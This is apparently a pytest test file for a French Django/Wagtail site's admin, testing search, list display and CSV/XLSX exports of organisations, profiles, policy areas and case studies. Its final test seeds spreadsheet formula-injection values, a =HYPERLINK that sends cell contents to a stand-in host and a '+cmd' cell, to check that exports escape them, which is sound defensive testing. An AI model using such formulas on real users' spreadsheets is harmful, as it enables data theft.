"""Editors search the network's admin listings, read them and export them as
they read them: labels, « Oui » / « Non », local time."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from home import roles
from network.models import CaseStudyPage, Organisation, PersonProfile, PolicyArea
from tests.exports import admin_csv_rows
from tests.factories.network import OrganisationFactory, PersonProfileFactory

pytestmark = pytest.mark.django_db

ORGANISATIONS = reverse("wagtailsnippets_network_organisation:list")
PROFILES = reverse("wagtailsnippets_network_personprofile:list")
POLICY_AREAS = reverse("wagtailsnippets_network_policyarea:list")


@pytest.fixture
def editor(client_as):
    return client_as(roles.EDITORS)


def listed(response):
    assert response.status_code == 200
    return [str(item) for item in response.context["object_list"]]


def csv_export(client, url, **params):
    return admin_csv_rows(client.get(url, {"export": "csv", **params}))


def xlsx_export(client, url, **params):
    response = client.get(url, {"export": "xlsx", **params})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(headings, row, strict=True)) for row in rows]


# Searching


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtailsnippets_network_organisation:list",
        "wagtailsnippets_network_personprofile:list",
        "wagtailsnippets_network_policyarea:list",
        "wagtailsnippets_network_networktag:list",
        "case_studies:index",
        "wagtailsnippetchoosers_network_organisation:choose_results",
        "wagtailsnippetchoosers_network_personprofile:choose_results",
        "wagtailsnippetchoosers_network_policyarea:choose_results",
    ],
)
def test_every_network_admin_listing_answers_a_search(client_as, url_name):
    response = client_as(roles.ADMINISTRATORS).get(reverse(url_name), {"q": "somme abc"})
    assert response.status_code == 200


def test_organisations_are_searched_by_name_and_region(editor):
    assert listed(editor.get(ORGANISATIONS, {"q": "somme"})) == ["Département de la Somme"]
    in_normandy = listed(editor.get(ORGANISATIONS, {"q": "normandie"}))
    assert in_normandy == list(Organisation.objects.filter(region="Normandie").values_list("name", flat=True))
    assert in_normandy


def test_profiles_are_searched_by_every_word_in_name_job_title_and_bio(editor):
    found = PersonProfileFactory(
        display_name="Gwendoline Quenouille", job_title="Designer de services", bio="Ateliers de cocréation."
    )
    unlisted = PersonProfileFactory(display_name="Quenouille discrète", listed=False)
    PersonProfileFactory(display_name="Autre Designer")
    assert set(listed(editor.get(PROFILES, {"q": "quenouille"}))) == {str(found), str(unlisted)}
    assert listed(editor.get(PROFILES, {"q": "QUENOUILLE designer"})) == [str(found)]
    assert listed(editor.get(PROFILES, {"q": "cocréation"})) == [str(found)]
    assert listed(editor.get(PROFILES, {"q": "abc quenouille"})) == []


def test_policy_areas_are_searched_by_name_and_description(editor):
    assert listed(editor.get(POLICY_AREAS, {"q": "marchés publics"})) == ["Commande publique"]
    assert listed(editor.get(POLICY_AREAS, {"q": "logement"})) == ["Logement"]


# Reading


def test_the_profiles_listing_shows_whether_a_profile_is_listed_as_a_tick_or_a_cross(editor):
    PersonProfileFactory(display_name="Affiché", listed=True)
    PersonProfileFactory(display_name="Caché", listed=False)
    html = editor.get(PROFILES, {"q": "caché"}).content.decode()
    assert "icon-cross" in html
    assert "icon-check" not in html
    assert ">False<" not in html.replace(" ", "").replace("\n", "")
    html = editor.get(PROFILES, {"q": "affiché"}).content.decode()
    assert "icon-check" in html
    assert ">True<" not in html.replace(" ", "").replace("\n", "")


# Exporting


def test_the_organisations_export_gives_the_type_by_its_label(editor):
    OrganisationFactory(name="Tiers-lieu de test", kind="autre")
    for export in (csv_export, xlsx_export):
        rows = {row["Nom"]: row for row in export(editor, ORGANISATIONS)}
        assert rows["Tiers-lieu de test"]["Type"] == "Autre"
        assert rows["Département de la Somme"]["Type"] == "Département"


def test_the_profiles_export_gives_the_update_time_in_paris_time(editor):
    profile = PersonProfileFactory(display_name="Mise à jour tardive")
    utc = datetime.datetime(2026, 11, 19, 20, 56, 43, 985602, tzinfo=datetime.UTC)
    PersonProfile.objects.filter(pk=profile.pk).update(updated_at=utc)
    csv_row = next(row for row in csv_export(editor, PROFILES) if row["Nom"] == "Mise à jour tardive")
    assert csv_row["Mis à jour le"] == "2026-11-19 21:56"
    xlsx_row = next(row for row in xlsx_export(editor, PROFILES) if row["Nom"] == "Mise à jour tardive")
    assert xlsx_row["Mis à jour le"].replace(microsecond=0) == datetime.datetime(2026, 11, 19, 21, 56, 43)


def test_the_profiles_export_follows_the_time_zone_an_editor_chose(client, demo_user):
    from wagtail.users.models import UserProfile

    editor = demo_user(roles.EDITORS)
    account = UserProfile.get_for_user(editor)
    account.current_time_zone = "Asia/Tokyo"
    account.save()
    profile = PersonProfileFactory(display_name="Vu de Tokyo")
    PersonProfile.objects.filter(pk=profile.pk).update(
        updated_at=datetime.datetime(2026, 11, 19, 20, 56, tzinfo=datetime.UTC)
    )
    client.force_login(editor)
    row = next(row for row in csv_export(client, PROFILES) if row["Nom"] == "Vu de Tokyo")
    assert row["Mis à jour le"] == "2026-11-20 05:56"


def test_the_case_studies_export_gives_labels_and_yes_or_no(editor):
    url = reverse("case_studies:index")
    case_study = CaseStudyPage.objects.live().first()
    CaseStudyPage.objects.filter(pk=case_study.pk).update(
        innovation_type=CaseStudyPage.InnovationType.SOCIAL,
        stage=CaseStudyPage.Stage.EXPERIMENT,
        departement_number="80",
    )
    draft = CaseStudyPage.objects.live().exclude(pk=case_study.pk).first()
    draft.unpublish()
    for export in (csv_export, xlsx_export):
        rows = {row["Titre"]: row for row in export(editor, url)}
        row = rows[case_study.title]
        assert row["Type d'innovation"] == "Innovation sociale"
        assert row["Stade"] == "Expérimentation"
        assert row["Département"] == "80 · Somme"
        assert row["Publiée"] == "Oui"
        assert rows[draft.title]["Publiée"] == "Non"


def test_the_policy_areas_export_their_plain_text_unchanged(editor):
    rows = {row["Nom"]: row for row in csv_export(editor, POLICY_AREAS)}
    assert len(rows) == PolicyArea.objects.count()
    assert rows["Logement"]["Identifiant dans l'adresse"] == "logement"
    assert rows["Logement"]["Description"] == "Habitat indigne, précarité énergétique, propriétaires."


def test_no_exported_csv_cell_runs_as_a_formula(editor):
    PersonProfileFactory(display_name='=HYPERLINK("http://exemple.fr/vol?d="&A1;"Cliquez")', job_title="+cmd")
    row = next(row for row in csv_export(editor, PROFILES) if "HYPERLINK" in row["Nom"])
    assert row["Nom"] == "'" + '=HYPERLINK("http://exemple.fr/vol?d="&A1;"Cliquez")'
    assert row["Fonction"] == "'+cmd"
